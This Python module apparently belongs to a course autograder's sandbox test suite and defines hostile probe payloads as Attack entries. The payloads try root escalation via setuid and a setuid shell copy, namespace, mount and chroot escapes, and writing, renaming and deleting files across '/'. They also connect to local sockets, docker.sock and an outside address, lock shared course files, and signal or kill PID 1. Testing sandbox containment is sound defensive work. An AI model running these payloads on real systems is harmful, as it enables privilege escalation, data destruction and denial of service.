"""Reaching past the own process: the machine, the network, the nursery, and whoever comes next.

Every hostile notebook begins with a look for what these leave, so whichever comes next finds it.
"""

from attacks.attack import Attack
from dnn_grader.demo import hostile

CALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

def call(name, *args):
    ctypes.set_errno(0)
    result = getattr(libc, name)(*args)
    return result, os.strerror(ctypes.get_errno())
"""

SHARED = """
KEY, LEFT = 0x1EF7, b"left-by-daemon"
for name, args in {
    "shmget": (KEY, 4096, 0o1666), "msgget": (KEY, 0o1666), "semget": (KEY, 1, 0o1666), "shm_open": (b"/left-by-shm", 66, 0o666),
    "mq_open": (b"/left-by-queue", 66, 0o666, None), "sem_open": (b"/left-by-semaphore", 64, 0o666, 1),
    "memfd_create": (LEFT, 0),
}.items():
    try:
        print(name, call(name, *args))
    except AttributeError:
        pass
ADD_KEY, KEYCTL = (248, 250) if os.uname().machine == "x86_64" else (217, 219)
for ring in (-1, -2, -3, -4, -5):
    number, why = call("syscall", ADD_KEY, b"user", LEFT, b"CAN" + b"ARY", 6, ring)
    print("add_key", ring, number, why)
    if number > 0:
        loot("a keyring it could write", ring)
"""

NAMESPACES = """
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x02000000, 0x10020000):
    for name in ("unshare",):
        number, why = call(name, flag)
        if number == 0:
            loot("a namespace of its own", hex(flag))
for args in ((b"proc", b"/student/tmp", b"proc", 0, None), (b"/", b"/student/tmp", None, 4096, None),
             (b"tmpfs", b"/course", b"tmpfs", 0, None), (None, b"/course/dnn_utils", None, 4128, None)):
    if call("mount", *args)[0] == 0:
        loot("a mount of its own", args)
for path in (b"/student/tmp", b".", b"/"):
    if call("chroot", path)[0] == 0:
        loot("a root of its own", path)
CLONE = 56 if os.uname().machine == "x86_64" else 220
number, why = call("syscall", CLONE, 0x10000000 | 17, 0, 0, 0, 0)
if number == 0:
    os._exit(0)
if number > 0:
    loot("a process in a namespace of its own", number)
print("namespaces", why)
"""

RIGHTS = """
import resource, stat, subprocess, sys
for name, args in {"setuid": (0,), "setgid": (0,), "setresuid": (0, 0, 0), "setgroups": (1, (ctypes.c_int * 1)(0))}.items():
    print(name, call(name, *args))
if os.getuid() == 0 or os.geteuid() == 0:
    loot("the user root", os.getuid())
for option in (4, 38, 22, 24, 47):
    call("prctl", option, 1, 0, 0, 0)
for name in ("RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
    kind = getattr(resource, name)
    before = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if before != resource.getrlimit(kind):
            loot("a limit it could raise", name)
    except (ValueError, OSError):
        pass
try:
    open("shell", "wb").write(open(sys.executable, "rb").read(1000))
    os.chmod("shell", 0o6777)
    os.execv("./shell", ["shell"])
except OSError as error:
    print(error)
for words in (["/bin/sh", "-c", "id"], ["/usr/bin/env"], ["sudo", "id"], ["su"], [sys.executable, "-c", "import os; print(os.listdir('/root'))"]):
    try:
        print(words, subprocess.run(words, capture_output=True, timeout=3))
    except (OSError, subprocess.SubprocessError) as error:
        print(words, type(error).__name__)
"""

WRITES = """
import itertools
count = 0
for folder, inner, files in itertools.chain(os.walk("/"), [(place, [], []) for place in ("COURSE", "HOME_FOLDER", "COURSE/submitted", "/var/tmp")]):
    if folder.startswith(("/student", "/proc", "/sys")):
        continue
    count += 1
    if count > 3000:
        break
    for path in (os.path.join(folder, "left-by-writer"), *(os.path.join(folder, name) for name in files[:2])):
        if path.startswith("/dev/") and not path.endswith("writer"):
            continue
        try:
            with open(path, "ab") as file:
                file.write(b"")
            loot("a file it could write", path)
        except OSError:
            pass
        for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path), lambda: os.rename(path, path + "2"), lambda: os.unlink(path)):
            try:
                change()
                loot("a file it could change", path)
            except OSError:
                pass
"""

# A listener waits on this machine: at PORT, and on a socket in the course folder.
NETWORK = """
import socket
for address in (("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("0.0.0.0", PORT), ("1.1.1.1", 53), ("10.0.2.2", PORT), ("172.17.0.1", PORT)):
    try:
        with socket.create_connection(address, timeout=0.3) as link:
            link.sendall(b"FOUND")
            loot("a network it could reach", address)
    except OSError as error:
        print(address, error)
for name in ("COURSE/socket", "\\0left-by-listener-PORT", "/run/docker.sock", "/var/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect(name)
            link.sendall(b"FOUND")
            loot("a socket it could reach", name)
    except OSError:
        pass
for family, kind in ((17, 3), (16, 3), (38, 5), (40, 1), (2, 3), (31, 3), (29, 3), (44, 3)):
    try:
        socket.socket(family, kind)
        if family not in (1, 2, 10) or kind == 3:
            loot("a kind of socket it could open", (family, kind))
    except OSError:
        pass
try:
    socket.socket(socket.AF_UNIX).bind("\\0left-by-daemon")
    with socket.socket() as own:
        own.bind(("127.0.0.1", 0))
        own.listen()
        socket.create_connection(own.getsockname(), timeout=0.3)
except OSError as error:
    print(error)
"""

# Files that all submissions share can't be written, but locked, leased and watched.
LOCKS = """
import fcntl, glob
held = []
for path in glob.glob("/course/dnn_utils/**/*.*", recursive=True):
    if not os.path.isfile(path):
        continue
    file = open(path, "rb")
    held.append(file)
    held = held[-40:]
    for lock in (lambda: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB), lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK),
                 lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK), lambda: fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)):
        try:
            lock()
            loot("a shared file that it could lock", path)
        except OSError:
            pass
"""

# What may be sent to process 1, which stands between a submission and the nursery.
FIRST_PROCESS = """
import resource, signal
for number in range(1, 65):
    try:
        if number not in (9, 19):
            os.kill(1, number)
    except (OSError, ValueError):
        pass
for number in (signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(1, number)
        os.kill(os.getppid() or 1, number)
    except OSError:
        pass
for attempt in (
    lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)), lambda: os.sched_setaffinity(1, {0}),
    lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.pidfd_open(1), lambda: os.waitpid(-1, os.WNOHANG),
):
    try:
        print(attempt())
    except (OSError, ValueError) as error:
        print(error)
GETFD = 438
try:
    pidfd = os.pidfd_open(1)
    for number in range(20):
        if call("syscall", GETFD, pidfd, number, 0)[0] >= 0:
            loot("a descriptor of another process", number)
except OSError:
    pass
"""

ATTACKS = (
    Attack("left-daemon", "leaves a daemon, files, shared memory and an open socket", first=hostile.DAEMON),
    Attack("left-shared", "leaves shared memory, queues, semaphores and keys", first=CALL + SHARED),
    Attack("left-memory", "traces other processes and writes their memory", first=hostile.MEMORY_READER),
    Attack("left-namespaces", "makes namespaces and mounts of its own", first=CALL + NAMESPACES),
    Attack("left-rights", "becomes root, raises its limits, starts programs", first=CALL + RIGHTS),
    Attack("left-writes", "writes, changes and removes every file it can see", first=CALL + WRITES),
    Attack("left-network", "connects to this machine and the world", first=NETWORK),
    Attack("left-locks", "locks the files that all submissions read", first=CALL + LOCKS),
    Attack("left-first-process", "signals, limits and opens the first process", first=CALL + FIRST_PROCESS),
)
